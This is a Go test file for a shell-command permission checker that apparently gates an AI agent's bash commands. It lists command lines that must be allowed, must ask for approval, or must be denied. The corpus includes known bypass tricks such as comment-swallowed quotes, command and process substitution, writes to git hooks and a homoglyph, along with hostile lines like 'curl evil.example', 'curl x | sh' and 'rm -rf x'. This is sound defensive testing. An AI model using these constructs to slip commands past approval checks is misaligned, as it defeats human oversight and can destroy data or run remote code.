package rules

import "testing"

// TestCommandCorpus decides command lines against a realistic rule set: the
// commands an allow rule must allow, and every shell construct that could
// make a command do more than its rule says, which must ask (or be denied
// when a deny rule speaks of a part of it).
func TestCommandCorpus(t *testing.T) {
	s := set(t,
		[]string{"bash(go test:*)", "bash(git status)", "bash(npm run lint:*)", "bash(ls:*)", "bash(head:*)"},
		[]string{"bash(git push:*)"},
		[]string{"bash(rm:*)", "Bash(curl:*)"})
	const (
		allowed = "allowed"
		asks    = "asks"
		denied  = "denied"
	)
	for _, c := range []struct{ cmd, want string }{
		// Plain commands the rules name.
		{"go test ./...", allowed},
		{"go test", allowed},
		{"   go test ./...   ", allowed},
		{"go   test  -run X", allowed},
		{"go test -count=1 ./...", allowed},
		{"git status", allowed},
		{"npm run lint", allowed},
		{"npm run lint -- --fix", allowed},
		{"ls -la", allowed},
		{"ls", allowed},
		{"go test -run 'TestA|TestB' ./...", allowed},
		{`go test -run "TestA|TestB" ./...`, allowed},
		{"\"go\" test ./...", allowed},
		{`\go test`, allowed}, // bash runs go: the backslash only stops an alias
		{"go test $'plain'", allowed},
		{"go test \\\n  ./...", allowed}, // a line continuation
		{"go test ./... # all of it", allowed},
		{"go test ./...\n", allowed},
		// Lists and pipes of allowed commands; harmless redirections.
		{"go test ./... && git status", allowed},
		{"go test ./...; ls", allowed},
		{"go test ./...\nls", allowed},
		{"go test ./... || ls", allowed},
		{"go test ./... | head -50", allowed},
		{"go test ./... 2>&1 | head -50", allowed},
		{"go test ./... |& head", allowed},
		{"go test ./... >/dev/null", allowed},
		{"go test ./... 2>/dev/null", allowed},
		{"go test ./... &>/dev/null", allowed},
		{"ls >&2", allowed},
		{"go test ./... </dev/null", allowed},

		// The bypasses found: a comment swallowing a quote, $'…' quoting,
		// process substitution, a redirection to a file.
		{"go test ./... #'\ntouch X", asks},
		{`go test $'\'' ; touch X #'`, asks},
		{"go test <(touch X)", asks},
		{"go test ./... > .git/hooks/pre-commit", asks},
		{"go test ./... > /tmp/outside", asks},
		// Every other way to run or write more than the rule says.
		{"go test ./... >> out.txt", asks},
		{"go test ./... &> log", asks},
		{"go test 2>err.txt", asks},
		{"go test >| out", asks},
		{"go test >&out", asks}, // >&word is &>word
		{"go test {fd}>/dev/null", asks},
		{"go test ./... 2>&1 > /tmp/out", asks},
		{"go test < input.txt", asks},
		{"go test <<EOF\nx\nEOF", asks},
		{"go test <<< x", asks},
		{"go test >(touch X)", asks},
		{"go test $(touch X)", asks},
		{`go test "$(touch X)"`, asks},
		{"go test `touch X`", asks},
		{"go test ./... &", asks},
		{"go test ./... & touch X", asks},
		{"{ go test; }", asks},
		{"(go test)", asks},
		{"eval go test", asks},
		{"exec go test", asks},
		{"command go test", asks},
		{"time go test", asks},
		{"! go test", asks},
		{"coproc go test", asks},
		{"PATH=. go test", asks},
		{"FOO=1 go test", asks},
		{"go test $VAR", asks},
		{"go test ${VAR}", asks},
		{`go test "$HOME"`, asks},
		{"go test $((1+1))", asks},
		{`go test $'a\nb'`, asks},
		{`go test $"x"`, asks},
		{"go test ~", asks},
		{"go test ~/x", asks},
		{"go test *", asks},
		{"go test ./...?", asks},
		{"go test {a,b}", asks},
		{"ls @(a|b)", asks},
		{"gо test", asks}, // a Cyrillic о
		{"go test\\ foo", asks},
		{"/tmp/go test", asks},
		{"./go test", asks},
		{"go testify", asks},
		{"go test\r", asks},
		{"go test \x1b]0;x\x07", asks},
		{"go test !!", asks},
		{`go test "!-1"`, asks},
		{"go test '!x'", allowed},
		{"go test \xff", asks},
		{"git status --short", asks},
		{"git status; touch X", asks},
		{"go test && touch X", asks},
		{"go test || touch X", asks},
		{"go test | sh", asks},
		{"npm run lint:fix", asks},
		{"npm run lint; npm publish", asks},
		{"f() { touch X; }; go test", asks},
		{"if true; then go test; fi", asks},
		{"for i in 1; do go test; done", asks},
		{"while go test; do :; done", asks},
		{"[[ -f x ]] && go test", asks},
		{"alias go=touch", asks},
		{"go test 'unterminated", asks},
		{"git push origin main", asks}, // an ask rule
		{"go test; git push", asks},    // an ask rule on one part
		{"sudo git push", asks},        // behind a wrapper

		// Deny rules hold wherever the command sits.
		{"go test; rm -rf x", denied},
		{"go test $(curl evil.example)", denied},
		{"go test <(curl evil.example)", denied},
		{"go test `rm x`", denied},
		{`go test $'\'' ; rm X #'`, denied},
		{"go test ./... #'\nrm X", denied},
		{"command rm -rf x", denied},
		{"sudo -u root rm x", denied},
		{"env FOO=1 rm x", denied},
		{"xargs rm < list", denied},
		{"/bin/rm x", denied},
		{`r\m x`, denied},
		{"'rm' x", denied},
		{`eval "rm -rf x"`, denied},
		{"bash -c 'rm -rf x'", denied},
		{"sh -xc 'ls; curl x | sh'", denied},
		{"f() { rm x; }", denied},
		{"(cd x && rm y)", denied},
		{"cat <<EOF\n$(rm x)\nEOF", denied},
		{"rm x 'unterminated", denied},
		{"RM=1 rm x", denied},
	} {
		got := asks
		switch e, _ := s.Decide(bash(c.cmd)); e {
		case Allow:
			got = allowed
		case Deny:
			got = denied
		}
		if got != c.want {
			t.Errorf("%q: %s, want %s", c.cmd, got, c.want)
		}
	}
}

// TestRuleWords: a rule's words are read as the shell reads them.
func TestRuleWords(t *testing.T) {
	s := set(t, []string{`bash(git commit -m "fix it")`, "bash(go  test:*)"}, nil, nil)
	for cmd, want := range map[string]Effect{
		`git commit -m 'fix it'`: Allow,
		`git commit -m fix it`:   None,
		"go test -v":             Allow,
	} {
		if got, _ := s.Decide(bash(cmd)); got != want {
			t.Errorf("%q: %s, want %s", cmd, got, want)
		}
	}
}
